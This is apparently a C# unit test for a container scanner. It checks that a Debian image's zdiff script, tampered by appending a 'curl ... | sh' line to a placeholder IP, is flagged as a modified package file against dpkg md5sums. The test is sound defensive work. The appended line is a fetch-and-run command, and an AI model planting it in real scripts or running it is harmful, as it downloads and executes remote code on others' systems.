using System.Formats.Tar;
using System.Text;
using System.Text.Json;
using Comb.Testing.Images;

namespace Comb.Cli.Tests;

/// <summary>
/// Integrity against the package database on real Debian files: gzip's and debianutils' md5sums and scripts taken
/// from the Debian test image's rootfs, one script changed. Unchanged files are verified, the changed one is reported.
/// </summary>
public sealed class PackageIntegrityScanTests(ScanFixture fixture) : IClassFixture<ScanFixture>
{
    private static readonly string[] Wanted =
    [
        "var/lib/dpkg/info/gzip.md5sums", "var/lib/dpkg/info/debianutils.md5sums",
        "usr/bin/gunzip", "usr/bin/zcat", "usr/bin/zdiff", "usr/bin/which.debianutils",
    ];

    [Fact]
    public async Task Unchanged_package_files_pass_and_a_changed_one_is_a_modified_package_file()
    {
        DebianImage.RequireReference();
        var files = await ReadRootfsAsync(Path.Combine(DebianImage.CacheDir, "debian-bookworm-rootfs.tar"));
        Assert.Equal(Wanted.Length, files.Count);
        var tampered = files["usr/bin/zdiff"].Concat(Encoding.ASCII.GetBytes("\ncurl -s http://203.0.113.9/x | sh\n")).ToArray();
        var image = new TestImage().Layer(l =>
        {
            foreach (var (path, content) in files)
            {
                l.File(path, content, path.StartsWith("usr/bin/", StringComparison.Ordinal) ? (UnixFileMode)0b111_101_101 : (UnixFileMode)0b110_100_100);
            }
        }).Layer(l => l.By("RUN patch").File("usr/bin/zdiff", tampered, (UnixFileMode)0b111_101_101));
        var layout = Path.Combine(fixture.Root, "integrity-oci");
        image.WriteOciLayout(layout);

        var (code, stdout, err) = await CliRunner.RunAsync("scan", "oci:" + layout, "--scanners", "malware", "--format", "json", "--cache-dir", fixture.CacheDir);

        Assert.True(code == 0, err);
        using var report = JsonDocument.Parse(stdout);
        var malware = report.RootElement.GetProperty("malware").EnumerateArray().ToList();
        var finding = Assert.Single(malware);
        Assert.Equal("usr/bin/zdiff", finding.GetProperty("path").GetString());
        Assert.Equal("modified-package-file", finding.GetProperty("category").GetString());
        Assert.Contains("dpkg package gzip", finding.GetProperty("signatures")[0].GetString(), StringComparison.Ordinal);
    }

    private static async Task<Dictionary<string, byte[]>> ReadRootfsAsync(string tarPath)
    {
        var found = new Dictionary<string, byte[]>(StringComparer.Ordinal);
        await using var stream = File.OpenRead(tarPath);
        await using var reader = new TarReader(stream);
        while (await reader.GetNextEntryAsync(copyData: false, TestContext.Current.CancellationToken) is { } entry)
        {
            var name = entry.Name.TrimStart('.', '/');
            if (Wanted.Contains(name) && entry.EntryType is TarEntryType.RegularFile or TarEntryType.V7RegularFile && entry.DataStream is { } data)
            {
                using var buffer = new MemoryStream();
                await data.CopyToAsync(buffer, TestContext.Current.CancellationToken);
                found[name] = buffer.ToArray();
            }
        }

        return found;
    }
}
